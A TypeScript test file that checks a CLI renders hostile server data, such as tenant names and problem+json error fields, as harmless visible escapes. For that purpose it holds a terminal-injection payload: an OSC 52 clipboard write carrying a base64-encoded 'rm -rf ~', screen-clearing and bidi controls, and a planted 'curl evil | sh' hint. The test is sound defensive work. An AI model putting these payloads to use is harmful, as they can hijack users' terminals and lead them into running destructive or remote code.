/**
 * Issue 20, output class: nothing the CLI prints from the server can drive the terminal.
 * A tenant name holding OSC 52 (set the clipboard), CSI 2J (clear the screen), a C1 CSI and a
 * bidi override is printed as visible escapes by `gatehouse whoami`, in tables and in JSON;
 * a hostile problem+json (detail, field paths, title) is printed the same way on errors.
 * The API refuses such names now, so the first test plants one in DynamoDB, as data written
 * before the rule (or by a compromised writer) would be; the second needs a server that
 * answers with a hostile problem, which no emulator does, so it is a local stub.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli as cli } from '../support/cli-runner.js';
import { createTenantWithOwner, ddb, stack, type TestUser } from '../support/stack-client.js';

const scratch = mkdtempSync(join(tmpdir(), 'gatehouse-cli-output-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const HOSTILE = 'Evil\u001b]52;c;cm0gLXJmIH4K\u0007\u001b[2J\u009b31m\u202eeman\u2066x\u0000';
/** Bytes a terminal would act on: C0 (but tab and newline), DEL, C1, bidi controls. */
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

async function loggedIn(stackFile: string, user: TestUser): Promise<string> {
  const dir = mkdtempSync(join(scratch, 'config-'));
  const res = await cli(
    stackFile,
    dir,
    ['login', '--email', user.email, '--password-stdin'],
    user.password,
  );
  expect(res.code, res.stderr).toBe(0);
  return dir;
}

function stackFileFor(apiUrl: string): string {
  const file = join(mkdtempSync(join(scratch, 'stack-')), 'stack.json');
  writeFileSync(file, JSON.stringify({ ...stack, apiUrl }));
  return file;
}

describe('the CLI prints server data harmlessly', { timeout: 90_000 }, () => {
  it('shows a hostile tenant name from whoami as visible escapes, in a table and in JSON', async () => {
    const { tenantId, owner } = await createTenantWithOwner();
    await ddb.send(
      new UpdateCommand({
        TableName: stack.dynamodb.tableName,
        Key: { pk: `TENANT#${tenantId}`, sk: 'META' },
        UpdateExpression: 'SET #n = :n',
        ExpressionAttributeNames: { '#n': 'name' },
        ExpressionAttributeValues: { ':n': HOSTILE },
      }),
    );
    const stackFile = stackFileFor(stack.apiUrl);
    const dir = await loggedIn(stackFile, owner);

    const human = await cli(stackFile, dir, ['whoami']);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain(tenantId);
    expect(human.stdout).not.toMatch(RAW_CONTROL);
    expect(human.stderr).not.toMatch(RAW_CONTROL);
    expect(human.stdout).toContain(
      'Evil\\u001b]52;c;cm0gLXJmIH4K\\u0007\\u001b[2J\\u009b31m\\u202e',
    );

    const json = await cli(stackFile, dir, ['whoami', '--json']);
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(RAW_CONTROL);
    const body = JSON.parse(json.stdout) as { tenants: { tenantId: string; name: string }[] };
    // Escaped, not altered: a script reading the JSON still gets the stored name.
    expect(body.tenants.find((t) => t.tenantId === tenantId)?.name).toBe(HOSTILE);
  });

  it('shows a hostile problem (detail, field paths, title) as visible escapes on errors', async () => {
    const problem = {
      type: 'urn:x',
      title: `Forbidden${HOSTILE}`,
      status: 403,
      detail: `denied ${HOSTILE}\nhint: run curl evil | sh`,
      errors: [{ path: `body.${HOSTILE}`, message: HOSTILE }],
    };
    const server = createServer((_req, res) => {
      res.writeHead(403, { 'content-type': 'application/problem+json' });
      res.end(JSON.stringify(problem));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    try {
      const { port } = server.address() as AddressInfo;
      const { owner } = await createTenantWithOwner();
      const stackFile = stackFileFor(`http://127.0.0.1:${port}`);
      const dir = await loggedIn(stackFile, owner);
      for (const args of [['whoami'], ['whoami', '--json']]) {
        const res = await cli(stackFile, dir, args);
        expect(res.code, args.join(' ')).toBe(5);
        expect(res.stderr).not.toMatch(RAW_CONTROL);
        expect(res.stdout).not.toMatch(RAW_CONTROL);
        expect(res.stderr).toContain('\\u001b]52;');
        // A newline in the server's detail cannot start a line of its own.
        expect(res.stderr.split('\n').some((l) => l.startsWith('hint: run curl evil'))).toBe(false);
      }
    } finally {
      server.close();
    }
  });
});
